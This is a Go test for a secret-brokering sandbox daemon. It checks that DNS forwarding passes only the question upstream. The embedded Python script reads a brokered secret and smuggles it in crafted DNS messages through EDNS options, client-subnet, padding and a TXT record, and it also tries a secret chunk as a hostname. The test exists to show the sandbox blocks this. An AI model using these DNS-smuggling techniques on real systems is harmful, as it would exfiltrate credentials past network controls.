package main

import (
	"bytes"
	"crypto/rand"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bermsec/berm/testenv/bermbin"
	"github.com/bermsec/berm/testenv/dnstest"
)

// A call holding a brokered secret writes its own DNS queries for an allowed name, the secret
// in an EDNS local option, a client-subnet option, padding and an additional TXT record, over
// UDP and TCP to port 53 of an address with no server. The tool gets its answers; the real
// upstream, recording every byte it receives, never sees the secret: bermd forwards only the
// question. A 6-character chunk of the secret as a name is refused and never asked upstream.
func TestDaemonDNSForwardsOnlyTheQuestion(t *testing.T) {
	d := startDaemon(t)
	up := dnstest.Start(t, dnstest.Zone{"www.allowed.test": {dnstest.A("www.allowed.test", "127.0.0.21", 60)}})
	const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 24)
	rand.Read(b)
	for i := range b {
		b[i] = alnum[int(b[i])%len(alnum)]
	}
	secret := "Fw4d" + string(b)
	chunk := strings.ToLower(secret[:6]) // "fw4d" and two more: letters and digits
	dir := t.TempDir()
	src := filepath.Join(dir, "secret")
	os.WriteFile(src, []byte(secret), 0o600)
	pol := filepath.Join(dir, "p.yaml")
	os.WriteFile(pol, []byte(fmt.Sprintf(`apiVersion: berm.dev/v1alpha1
kind: ToolPolicy
metadata: {name: dns-forward}
spec:
  credentials:
    - {name: db, source: {file: %s}, deliver: {file: /run/secrets/db}}
  isolation: {network: host-filtered}
  network:
    egress:
      - {domain: "*.allowed.test", ports: [80], allowPrivate: true} # the test's upstream answers on loopback
`, src)), 0o600)
	ws := bermbin.Workspace(t)
	os.WriteFile(filepath.Join(ws, "chunk"), []byte(chunk), 0o644)
	r := d.run(t, "", "--call-id", "TestDaemonDNSForwardsOnlyTheQuestion", "--workspace", ws, "--policy", pol, "--dns-upstream", up.Addr, "--",
		"python3", "-c", `import socket, struct
sec = open("/run/secrets/db", "rb").read().strip()
def name(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
def opt(code, data):
    return struct.pack(">HH", code, len(data)) + data
rdata = opt(65001, sec) + opt(8, b"\x00\x01\x20\x00" + sec) + opt(12, sec) + opt(10, sec[:16])
edns = b"\0" + struct.pack(">HHIH", 41, 4096, 0x8000, len(rdata)) + rdata
txt = name("x.allowed.test") + struct.pack(">HHIH", 16, 1, 1, len(sec) + 1) + bytes([len(sec)]) + sec
q = struct.pack(">HHHHHH", 0x4242, 0x0130, 1, 0, 0, 2) + name("WwW.allowed.test") + struct.pack(">HH", 1, 1) + txt + edns
def show(kind, a):
    qid, flags, qd, an = struct.unpack(">HHHH", a[:8])
    print(kind, hex(qid), flags & 15, an, socket.inet_ntoa(a[-4:]) if an else "-", a[12:12+18] == q[12:12+18])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(30)
u.sendto(q, ("127.0.0.99", 53))
show("udp", u.recv(4096))
s = socket.create_connection(("127.0.0.99", 53), timeout=30)
s.sendall(struct.pack(">H", len(q)) + q)
n = struct.unpack(">H", s.recv(2))[0]
a = b""
while len(a) < n:
    a += s.recv(n - len(a))
show("tcp", a)
try:
    print("chunk", socket.getaddrinfo(open("chunk").read() + ".allowed.test", 80, socket.AF_INET)[0][4][0])
except socket.gaierror:
    print("chunk unresolved")
`)
	if r.Exit != 0 {
		t.Fatalf("call: %+v", r)
	}
	for _, want := range []string{"udp 0x4242 0 1 127.0.0.21 True", "tcp 0x4242 0 1 127.0.0.21 True", "chunk unresolved"} {
		if !strings.Contains(r.Stdout, want+"\n") {
			t.Errorf("the tool did not see %q:\n%s", want, r.Stdout)
		}
	}
	got := up.Received()
	if len(got) < 2 {
		t.Fatalf("the upstream received %d messages, want the UDP and the TCP query", len(got))
	}
	for i, m := range got {
		if bytes.Contains(bytes.ToLower(m), bytes.ToLower([]byte(secret[:8]))) {
			t.Errorf("message %d reached the upstream with the secret: %q", i, m)
		}
		if bytes.Contains(bytes.ToLower(m), []byte(chunk)) {
			t.Errorf("message %d reached the upstream with the 6-character chunk: %q", i, m)
		}
	}
	assertNowhere(t, d, secret)
}
